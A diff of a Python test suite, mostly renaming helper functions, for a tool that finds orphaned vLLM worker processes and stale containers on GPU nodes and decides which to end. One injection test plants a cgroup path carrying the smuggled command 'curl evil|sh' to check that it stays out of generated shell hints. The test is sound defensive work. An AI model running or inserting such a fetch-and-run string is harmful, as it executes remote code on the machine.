@@ -31,7 +31,7 @@ def container(invocation: str = "dead", *, ours: bool = True, running: bool = Tr
     return DockerFacts(True, (ContainerFacts(ID, name, labels, running, 10 if running else 0, "sha256:1", "no"),))
 
 
-def judged(
+def verdict_of(
     tree: Tree, docker: DockerFacts = NO_DOCKER, gpu: GpuFacts | None = None, tried: frozenset[Identity] = frozenset()
 ) -> Verdict:
     tree.file("/proc/uptime", f"{NOW_SECONDS}.00 1.00\n")
@@ -43,7 +43,7 @@ def judged(
     return StrayWorkers(tried=tried, rendezvous=29501).run(host)[1]
 
 
-def ended(verdict: Verdict) -> list[int]:
+def pids_to_end(verdict: Verdict) -> list[int]:
     return sorted(fix.pid for fix in verdict.fixes if isinstance(fix, EndProcess))
 
 
@@ -56,16 +56,16 @@ def orphans(tree: Tree, group: int = 9) -> None:
 def test_a_quiet_machine_has_none(tree: Tree) -> None:
     tree.process(20, "bash", argv=("bash",))
     tree.process(21, "python3", argv=("python3", "train.py", "vllm", "serve"))
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert (verdict.level, verdict.reason) == (Level.OK, "none among 3 processes")
 
 
 def test_workers_adopted_by_init_whose_group_lost_its_leader_are_ended_with_their_children(tree: Tree) -> None:
     orphans(tree)
     tree.process(12, "python3", parent=11, group=9)
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert (verdict.level, verdict.clears) == (Level.BLOCK, True)
-    assert ended(verdict) == [10, 11, 12]
+    assert pids_to_end(verdict) == [10, 11, 12]
     assert EndProcess(11, OLD + 1, "VLLM::Worker_TP", frees_bytes=2048 * 1024) in verdict.fixes
     assert "pid 10 (VLLM::EngineCor) and 2 with it" in verdict.reason
     assert "user uid 0" in verdict.reason
@@ -74,28 +74,28 @@ def test_workers_adopted_by_init_whose_group_lost_its_leader_are_ended_with_thei
 def test_a_zombie_leads_nobody_so_its_workers_are_strays(tree: Tree) -> None:
     tree.process(9, "vllm", state="Z")
     orphans(tree)
-    assert ended(judged(tree)) == [10, 11]
+    assert pids_to_end(verdict_of(tree)) == [10, 11]
 
 
 @pytest.mark.parametrize("reaper", ["systemd", "containerd-shim", "docker-init", "tini", "dumb-init", "conmon"])
 def test_any_reaper_is_as_good_as_init(tree: Tree, reaper: str) -> None:
     tree.process(5, reaper)
     tree.process(10, "VLLM::Worker_TP", parent=5, group=9)
-    assert ended(judged(tree)) == [10]
+    assert pids_to_end(verdict_of(tree)) == [10]
 
 
 def test_the_first_process_of_a_container_is_a_reaper(tree: Tree) -> None:
     tree.process(5, "sleep", namespace_pid=1, cgroup=CGROUP)
     tree.process(10, "VLLM::Worker_TP", parent=5, group=9, cgroup=CGROUP)
-    verdict = judged(tree, container(ours=False))
-    assert ended(verdict) == [10]
+    verdict = verdict_of(tree, container(ours=False))
+    assert pids_to_end(verdict) == [10]
     assert "container vllm_ds4" in verdict.reason
 
 
 def test_two_orphans_of_one_group_are_ended_once_each(tree: Tree) -> None:
     tree.process(10, "VLLM::EngineCor", group=9)
     tree.process(11, "VLLM::Worker_TP", group=9)
-    assert ended(judged(tree)) == [10, 11]
+    assert pids_to_end(verdict_of(tree)) == [10, 11]
 
 
 def test_a_living_engine_blocks_and_is_never_touched(tree: Tree) -> None:
@@ -105,7 +105,7 @@ def test_a_living_engine_blocks_and_is_never_touched(tree: Tree) -> None:
     tree.process(9, "vllm", argv=SERVE, private_kib=1024, uid=1000)
     tree.process(10, "VLLM::EngineCor", parent=9, group=9, opened=("socket:[5]", "/dev/nvidia0"), uid=1000)
     tree.listening((29501, 5))
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert (verdict.level, verdict.clears, verdict.fixes) == (Level.BLOCK, False, ())
     assert "a living engine: pid 9 (vllm) and 1 with it, user milo, port 29501" in verdict.reason
     assert "held by" not in verdict.reason, "the port is explained by the engine"
@@ -125,9 +125,9 @@ def test_an_engine_of_a_user_is_one_by_more_than_its_name(tree: Tree, cgroup: st
     tree.process(9, "vllm", argv=SERVE, uid=1000, cgroup=cgroup)
     tree.process(11, "python3", parent=9, group=9, uid=1000, cgroup=cgroup, opened=(opened,))
     tree.process(10, "VLLM::EngineCor", group=9, uid=1000, cgroup=cgroup)
-    found = judged(tree, container(ours=False))
-    assert (found.level, found.fixes) == (level, ())
-    assert ("of this kind are 2, user uid 1000" if level is Level.WARN else "a living engine: pid 9") in found.reason
+    verdict = verdict_of(tree, container(ours=False))
+    assert (verdict.level, verdict.fixes) == (level, ())
+    assert ("of this kind are 2, user uid 1000" if level is Level.WARN else "a living engine: pid 9") in verdict.reason
 
 
 def test_an_orphan_with_the_gpu_whose_leader_only_has_the_name_is_unknown(tree: Tree) -> None:
@@ -135,7 +135,7 @@ def test_an_orphan_with_the_gpu_whose_leader_only_has_the_name_is_unknown(tree: 
     tree.meminfo(MemTotal=120, MemFree=20, MemAvailable=20)
     tree.process(9, "vllm", argv=SERVE, uid=1000)
     tree.process(10, "VLLM::EngineCor", group=9, uid=1000, opened=("/dev/nvidia0",))
-    expect(judged(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())
+    expect(verdict_of(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())
 
 
 @pytest.mark.parametrize("state", ["S", "D"])
@@ -148,33 +148,35 @@ def test_an_orphan_of_a_user_blocks_and_is_never_ended_by_itself(tree: Tree, sta
     tree.process(
         10, "VLLM::EngineCor", group=group, uid=1000, state=state, opened=opened, start_time=OLD, cgroup=SESSION
     )
-    found = judged(tree, tried=frozenset({("end-process", 10, OLD)}))
-    expect(found, Level.BLOCK, "an orphaned engine: pid 10", fixes=(), clears=False, needs_person=False)
-    assert [[one.pid for one in offer] for offer in found.offers] == [[10]]
+    verdict = verdict_of(tree, tried=frozenset({("end-process", 10, OLD)}))
+    expect(verdict, Level.BLOCK, "an orphaned engine: pid 10", fixes=(), clears=False, needs_person=False)
+    assert [[process.pid for process in offer] for offer in verdict.offers] == [[10]]
 
 
 def test_a_main_process_that_is_titled_an_api_server_serves(tree: Tree) -> None:
     """As that of vLLM 0.10 is: adopted, its group's leader (a shell) gone."""
     tree.process(10, "VLLM::APIServer", group=9, argv=("VLLM::APIServer_0",), cgroup=SESSION)
     tree.process(11, "VLLM::EngineCor", parent=10, group=9, cgroup=SESSION)
-    expect(judged(tree), Level.BLOCK, "a living engine: pid 10 (VLLM::APIServer) and 1 with it", clears=False, fixes=())
+    expect(
+        verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (VLLM::APIServer) and 1 with it", clears=False, fixes=()
+    )
 
 
 def test_a_living_engine_beside_a_stray_holds_everything_back(tree: Tree) -> None:
     orphans(tree)
     tree.process(30, "vllm", argv=SERVE)
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert (verdict.level, verdict.clears) == (Level.BLOCK, False)
     assert verdict.reason.startswith("a living engine")
     assert verdict.hint == f"stop it first: {SERVICE}; if it outlives that: sudo sparkd preflight --fix 30"
-    assert [[one.pid for one in offer] for offer in verdict.offers] == [[30]]
+    assert [[process.pid for process in offer] for offer in verdict.offers] == [[30]]
 
 
 def test_an_orphan_that_leads_its_own_group_is_ended_with_its_children(tree: Tree) -> None:
     tree.process(10, "VLLM::EngineCor", cgroup=SESSION, opened=("socket:[5]", "socket:[6]"))
     tree.process(11, "python3", parent=10, group=10, cgroup=SESSION)
     tree.listening((29501, 5), (40000, 6))
-    assert ended(judged(tree)) == [10, 11]
+    assert pids_to_end(verdict_of(tree)) == [10, 11]
 
 
 @pytest.mark.parametrize(
@@ -197,46 +199,48 @@ def test_a_worker_that_is_not_orphaned_beyond_doubt_is_a_living_engine(
     tree.process(21, "python3", argv=("python3", "batch.py"))
     tree.process(10, comm, parent=parent, group=21 if parent == 21 else 10, cgroup=cgroup, opened=("socket:[5]",))
     tree.listening((port, 5))
-    found = judged(tree, container(ours=False))
-    expect(found, Level.BLOCK, "a living engine", clears=False, fixes=())
-    offered = [[one.pid for one in offer] for offer in found.offers]
+    verdict = verdict_of(tree, container(ours=False))
+    expect(verdict, Level.BLOCK, "a living engine", clears=False, fixes=())
+    offered = [[process.pid for process in offer] for offer in verdict.offers]
     assert offered == ([] if cgroup == CGROUP else [[10]]), "docker stop ends a container"
-    assert ("sudo docker stop vllm_ds4" in found.hint) is (cgroup == CGROUP)
+    assert ("sudo docker stop vllm_ds4" in verdict.hint) is (cgroup == CGROUP)
 
 
 def test_an_api_server_whose_main_process_is_gone_still_takes_requests(tree: Tree) -> None:
     tree.process(10, "VLLM::APIServer", group=9, cgroup=SESSION)
-    expect(judged(tree), Level.BLOCK, "a living engine", fixes=(), hint="stop it first: sudo sparkd preflight --fix 10")
+    expect(
+        verdict_of(tree), Level.BLOCK, "a living engine", fixes=(), hint="stop it first: sudo sparkd preflight --fix 10"
+    )
 
 
 def test_an_engine_of_a_users_service_is_stopped_by_that_users_manager(tree: Tree) -> None:
     tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
     group = "0::/user.slice/user-1000.slice/user@1000.service/app.slice/ds4.service"
     tree.process(30, "vllm", argv=SERVE, cgroup=group)
-    assert "sudo systemctl --user -M milo@ stop ds4.service" in judged(tree).hint
+    assert "sudo systemctl --user -M milo@ stop ds4.service" in verdict_of(tree).hint
     (tree.root / "etc/passwd").unlink()  # as of a user of a directory in the network
-    assert "sudo systemctl --user -M 1000@ stop ds4.service" in judged(tree).hint
+    assert "sudo systemctl --user -M 1000@ stop ds4.service" in verdict_of(tree).hint
 
 
 def test_no_folder_of_a_users_cgroups_puts_a_command_into_the_hint(tree: Tree) -> None:
     tree.file("/etc/passwd", "milo:x:1000:1000::/home/milo:/bin/bash\n")
     manager = "0::/user.slice/user-1000.slice/user@1000.service"
     tree.process(30, "vllm", argv=SERVE, cgroup=f"{manager}/x; curl evil|sh #.service")
-    assert "evil" not in judged(tree).hint
+    assert "evil" not in verdict_of(tree).hint
     tree.process(30, "vllm", argv=SERVE, cgroup=rf"{manager}/app-a\x2db.service")
-    assert r"sudo systemctl --user -M milo@ stop 'app-a\x2db.service'; " in judged(tree).hint
+    assert r"sudo systemctl --user -M milo@ stop 'app-a\x2db.service'; " in verdict_of(tree).hint
 
 
 def test_a_worker_adopted_by_init_whose_main_process_lives_belongs_to_it(tree: Tree) -> None:
     tree.process(9, "vllm", argv=SERVE)
     tree.process(10, "VLLM::EngineCor", group=9)
-    expect(judged(tree), Level.BLOCK, "pid 9 (vllm)", fixes=())
+    expect(verdict_of(tree), Level.BLOCK, "pid 9 (vllm)", fixes=())
 
 
 def test_an_adopted_worker_whose_group_a_shell_leads_is_unknown(tree: Tree) -> None:
     tree.process(9, "bash", argv=("bash", "loop.sh"))
     orphans(tree)
-    expect(judged(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())
+    expect(verdict_of(tree), Level.UNKNOWN, "may be orphaned or not", fixes=())
 
 
 @pytest.mark.parametrize("group", [9, 10], ids=["started by nohup over ssh", "leading its own group, as under systemd"])
@@ -246,7 +250,7 @@ def test_a_main_process_is_never_ended(tree: Tree, group: int, child: str | None
     tree.process(10, "vllm", argv=SERVE, group=group, start_time=OLD)
     if child:
         tree.process(11, child, parent=10, group=group)
-    expect(judged(tree), Level.BLOCK, "a living engine: pid 10 (vllm)", clears=False, fixes=())
+    expect(verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (vllm)", clears=False, fixes=())
 
 
 def test_a_rank_under_somebody_elses_ray_is_a_living_engine_even_adopted(tree: Tree) -> None:
@@ -254,7 +258,7 @@ def test_a_rank_under_somebody_elses_ray_is_a_living_engine_even_adopted(tree: T
     for parent in (9, 1):
         tree.process(9, "raylet", group=8)
         tree.process(10, "ray::RayWorkerP", parent=parent, group=10, argv=("ray::RayWorkerProc.run",))
-        expect(judged(tree), Level.BLOCK, "a living engine: pid 10 (ray::RayWorkerP)", clears=False, fixes=())
+        expect(verdict_of(tree), Level.BLOCK, "a living engine: pid 10 (ray::RayWorkerP)", clears=False, fixes=())
 
 
 def test_an_orphans_group_may_hold_a_living_engine_too_and_that_is_left_alone(tree: Tree) -> None:
@@ -262,22 +266,22 @@ def test_an_orphans_group_may_hold_a_living_engine_too_and_that_is_left_alone(tr
     tree.process(10, "VLLM::EngineCor", group=9)
     tree.process(20, "vllm", argv=SERVE, group=9)
     tree.process(21, "VLLM::EngineCor", parent=20, group=9)
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert not verdict.clears
-    assert ended(verdict) == [10]
+    assert pids_to_end(verdict) == [10]
 
 
 def test_a_worker_of_a_containers_first_process_is_no_orphan(tree: Tree) -> None:
     """`unshare --pid python3 srv.py`, begun by a script that has exited: it is the worker's own parent."""
     tree.process(10, "python3", group=9, argv=("python3", "srv.py"), namespace_pid=1)
     tree.process(11, "VLLM::EngineCor", parent=10, group=9, namespace_pid=2)
-    assert ended(judged(tree)) == []
+    assert pids_to_end(verdict_of(tree)) == []
 
 
 def test_our_container_whose_agent_is_gone_is_removed_whole(tree: Tree) -> None:
     tree.process(10, "vllm", argv=SERVE, cgroup=CGROUP, namespace_pid=1, private_kib=1024)
     tree.process(11, "VLLM::EngineCor", parent=10, group=10, cgroup=CGROUP, private_kib=1024)
-    verdict = judged(tree, container())
+    verdict = verdict_of(tree, container())
     assert (verdict.level, verdict.clears) == (Level.BLOCK, True)
     assert verdict.fixes == (RemoveContainer(ID, "sparkd-rank0", frees_bytes=2048 * 1024),)
     assert f"container sparkd-rank0 ({ID[:12]})" in verdict.reason
@@ -285,7 +289,7 @@ def test_our_container_whose_agent_is_gone_is_removed_whole(tree: Tree) -> None:
 
 @pytest.mark.parametrize("running", [True, False])
 def test_our_container_is_removed_though_no_process_of_an_engine_is_left_in_it(tree: Tree, running: bool) -> None:
-    verdict = judged(tree, container(running=running))
+    verdict = verdict_of(tree, container(running=running))
     assert [fix.kind for fix in verdict.fixes] == ["remove-container"]
     assert verdict.clears
 
@@ -293,7 +297,7 @@ def test_our_container_is_removed_though_no_process_of_an_engine_is_left_in_it(t
 def test_another_agent_that_owns_the_node_makes_the_old_ones_container_a_stray(tree: Tree) -> None:
     tree.process(40, "python3")
     tree.owner(40, "new")
-    assert [fix.kind for fix in judged(tree, container("old")).fixes] == ["remove-container"]
+    assert [fix.kind for fix in verdict_of(tree, container("old")).fixes] == ["remove-container"]
 
 
 def test_the_owners_own_rank_is_named_and_never_touched(tree: Tree) -> None:
@@ -301,7 +305,7 @@ def test_the_owners_own_rank_is_named_and_never_touched(tree: Tree) -> None:
     tree.owner(40, "alive")
     tree.process(10, "vllm", argv=SERVE, cgroup=CGROUP, namespace_pid=1, opened=("socket:[5]",))
     tree.listening((8000, 5))
-    verdict = judged(tree, container("alive"))
+    verdict = verdict_of(tree, container("alive"))
     assert (verdict.level, verdict.clears, verdict.fixes) == (Level.BLOCK, False, ())
     assert verdict.reason.endswith("owns this node: pid 40 (sparkd run --role head)")
 
@@ -314,7 +318,7 @@ def test_what_a_check_of_this_agents_left_when_docker_went_away_is_removed(
     pid = os.getpid() if own else os.getppid()
     tree.process(pid, "python3")
     tree.owner(pid, "alive")
-    verdict = judged(tree, container("alive", running=False))
+    verdict = verdict_of(tree, container("alive", running=False))
     assert ([fix.kind for fix in verdict.fixes], verdict.clears) == (fixes, own)
 
 
@@ -322,9 +326,9 @@ def recorded(tree: Tree, record: RankRecord, rank_id: str = "rank") -> DockerFac
     """A running container of the agent `dead` with this record of the rank."""
     tree.file("/proc/sys/kernel/random/boot_id", "boot\n")
     tree.file(FILE.path, FILE.encode(record))
-    (made,) = container().containers
-    labels = (*made.labels, ("io.sparkd.rank-id", rank_id))
-    return DockerFacts(True, (replace(made, labels=labels),))
+    (running,) = container().containers
+    labels = (*running.labels, ("io.sparkd.rank-id", rank_id))
+    return DockerFacts(True, (replace(running, labels=labels),))
 
 
 def test_a_rank_belongs_to_the_agent_that_has_it_by_the_record(tree: Tree) -> None:
@@ -332,9 +336,9 @@ def test_a_rank_belongs_to_the_agent_that_has_it_by_the_record(tree: Tree) -> No
     tree.process(10, "tini", start_time=100, cgroup=CGROUP, namespace_pid=1)
     tree.owner(40, "alive")
     started = rank_record(container_id=ID, pid=10, start_time=100)
-    reason = judged(tree, recorded(tree, replace(started, invocation="alive"))).reason
+    reason = verdict_of(tree, recorded(tree, replace(started, invocation="alive"))).reason
     assert reason.endswith("owns this node: pid 40 (sparkd run --role head)")
-    orphan = judged(tree, recorded(tree, replace(started, invocation="dead")))
+    orphan = verdict_of(tree, recorded(tree, replace(started, invocation="dead")))
     assert [fix.kind for fix in orphan.fixes] == ["remove-container"]
 
 
@@ -343,14 +347,14 @@ def test_a_rank_that_its_agent_is_expected_back_for_is_left_alone_by_hand(tree: 
     tree.process(30, "sparkd-guard")
     tree.file(GUARD, "0 10 100 77 88 30 100")
     record = rank_record(invocation="dead", container_id=ID, pid=10, start_time=100, stage=RankStage.READY)
-    expect(judged(tree, recorded(tree, record)), Level.BLOCK, "its agent has just crashed", clears=False, fixes=())
+    expect(verdict_of(tree, recorded(tree, record)), Level.BLOCK, "its agent has just crashed", clears=False, fixes=())
 
 
-def test_what_contradicts_the_record_is_named_and_never_touched(tree: Tree) -> None:
+def test_a_process_that_contradicts_the_record_is_named_and_never_touched(tree: Tree) -> None:
     tree.process(40, "python3")
     tree.owner(40, "alive")
     docker = recorded(tree, rank_record(invocation="alive", container_id="f" * 64))
-    expect(judged(tree, docker), Level.UNKNOWN, "is not what was started as that", fixes=())
+    expect(verdict_of(tree, docker), Level.UNKNOWN, "is not what was started as that", fixes=())
 
 
 def test_a_broken_record_makes_nothing_a_stray(tree: Tree) -> None:
@@ -358,12 +362,12 @@ def test_a_broken_record_makes_nothing_a_stray(tree: Tree) -> None:
     tree.owner(40, "alive")
     docker = recorded(tree, rank_record())
     tree.file(FILE.path, "")
-    expect(judged(tree, docker), Level.UNKNOWN, "whose it is, is unknown: /run/sparkd/private/rank.json", fixes=())
+    expect(verdict_of(tree, docker), Level.UNKNOWN, "whose it is, is unknown: /run/sparkd/private/rank.json", fixes=())
 
 
 def test_an_unknown_owner_makes_nothing_a_stray(tree: Tree) -> None:
     with tree.lock_held():
-        expect(judged(tree, container("dead")), Level.UNKNOWN, "does not name, is unknown", fixes=())
+        expect(verdict_of(tree, container("dead")), Level.UNKNOWN, "does not name, is unknown", fixes=())
 
 
 @pytest.mark.parametrize(
@@ -375,23 +379,23 @@ def test_an_unknown_owner_makes_nothing_a_stray(tree: Tree) -> None:
 )
 def test_whose_a_container_is_waits_for_docker(tree: Tree, docker: DockerFacts, awaits: str, hint: str) -> None:
     tree.process(10, "vllm", argv=SERVE, cgroup=CGROUP, namespace_pid=1)
-    expect(judged(tree, docker), Level.UNKNOWN, awaits=awaits, hint=hint, fixes=())
+    expect(verdict_of(tree, docker), Level.UNKNOWN, awaits=awaits, hint=hint, fixes=())
 
 
 def test_docker_is_not_awaited_where_something_else_blocks_too(tree: Tree) -> None:
     tree.process(10, "vllm", argv=SERVE, cgroup=CGROUP, namespace_pid=1)
     tree.process(30, "vllm", argv=SERVE)
-    assert judged(tree, AWAY).awaits == ""
+    assert verdict_of(tree, AWAY).awaits == ""
 
 
 def test_docker_away_alone_does_not_block(tree: Tree) -> None:
-    expect(judged(tree, AWAY), Level.OK, "docker is away")
+    expect(verdict_of(tree, AWAY), Level.OK, "docker is away")
 
 
 def test_a_foreign_container_is_a_living_engine_and_named(tree: Tree) -> None:
     tree.process(5, "containerd-shim")
     tree.process(10, "vllm", parent=5, argv=SERVE, cgroup=CGROUP, namespace_pid=1)
-    verdict = judged(tree, container(ours=False))
+    verdict = verdict_of(tree, container(ours=False))
     expect(verdict, Level.BLOCK, "container vllm_ds4", fixes=(), hint="stop it first: sudo docker stop vllm_ds4")
 
 
@@ -399,38 +403,38 @@ def test_a_port_that_a_stray_holds_is_free_once_the_stray_is_gone(tree: Tree) ->
     orphans(tree)
     tree.link("/proc/11/fd/9", "socket:[5]")
     tree.listening((29501, 5))
-    expect(judged(tree), reason="port 29501", clears=True)
+    expect(verdict_of(tree), reason="port 29501", clears=True)
 
 
 def test_holding_a_port_makes_nobody_a_stray(tree: Tree) -> None:
     tree.process(50, "nginx", opened=("socket:[5]",), cgroup=CGROUP)
     tree.listening((8000, 5))
-    assert judged(tree).level is Level.OK
+    assert verdict_of(tree).level is Level.OK
 
 
 def test_a_zombie_is_named_and_does_not_block(tree: Tree) -> None:
     tree.process(20, "bash")
     tree.process(10, "VLLM::Worker_TP", parent=20, state="Z")
-    verdict = judged(tree)
+    verdict = verdict_of(tree)
     assert (verdict.level, verdict.fixes) == (Level.WARN, ())
     assert verdict.reason == "pid 10 (VLLM::Worker_TP) is a zombie that pid 20 (bash) has not reaped"
 
 
 def test_a_stray_asleep_in_the_kernel_is_tried_first_and_needs_a_person_then(tree: Tree) -> None:
     tree.process(10, "VLLM::Worker_TP", group=9, state="D", start_time=OLD)
-    first = judged(tree)
-    assert (ended(first), first.needs_person) == ([10], False)
+    first = verdict_of(tree)
+    assert (pids_to_end(first), first.needs_person) == ([10], False)
     assert "state D" in first.reason
-    again = judged(tree, tried=frozenset({("end-process", 10, OLD)}))
-    assert (again.fixes, again.needs_person, again.hint) == ((), True, "reboot this node")
-    assert (first.required, again.required) == ("inspect", "reboot")
+    second = verdict_of(tree, tried=frozenset({("end-process", 10, OLD)}))
+    assert (second.fixes, second.needs_person, second.hint) == ((), True, "reboot this node")
+    assert (first.required, second.required) == ("inspect", "reboot")
 
 
 def test_a_stray_that_survives_is_not_tried_for_ever(tree: Tree) -> None:
     tree.process(10, "VLLM::Worker_TP", group=9, start_time=OLD)
-    again = judged(tree, tried=frozenset({("end-process", 10, OLD)}))
-    assert (again.level, again.clears, again.fixes, again.needs_person) == (Level.BLOCK, False, (), False)
-    assert ended(judged(tree, tried=frozenset({("end-process", 10, OLD + 1)}))) == [10], "another process"
+    second = verdict_of(tree, tried=frozenset({("end-process", 10, OLD)}))
+    assert (second.level, second.clears, second.fixes, second.needs_person) == (Level.BLOCK, False, (), False)
+    assert pids_to_end(verdict_of(tree, tried=frozenset({("end-process", 10, OLD + 1)}))) == [10], "another process"
 
 
 @pytest.mark.parametrize(
@@ -452,7 +456,7 @@ def test_the_gpus_memory_of_a_stray_comes_back_with_its_end(tree: Tree, gpu: Gpu
     tree.file("/proc/spl/kstat/zfs/arcstats", f"name type data\nsize 4 {5 << 30}\n")
     orphans(tree)
     tree.link("/proc/11/fd/9", "/dev/nvidia0")
-    freed = {fix.pid: fix.frees_bytes for fix in judged(tree, gpu=gpu).fixes if isinstance(fix, EndProcess)}
+    freed = {fix.pid: fix.frees_bytes for fix in verdict_of(tree, gpu=gpu).fixes if isinstance(fix, EndProcess)}
     assert freed == {10: 1 << 20, 11: frees + (2 << 20)}
 
 
@@ -479,4 +483,4 @@ def test_what_outlives_the_container_of_a_rank_whose_agent_is_gone_is_ended(
         tree.owner(40, owner)
     tree.process(9, "vllm", argv=SERVE, uid=1000, cgroup=cgroup)
     tree.process(10, "VLLM::EngineCor", parent=9, group=9, uid=1000, cgroup=cgroup)
-    assert ended(judged(tree, listed)) == ([9, 10] if ends else [])
+    assert pids_to_end(verdict_of(tree, listed)) == ([9, 10] if ends else [])
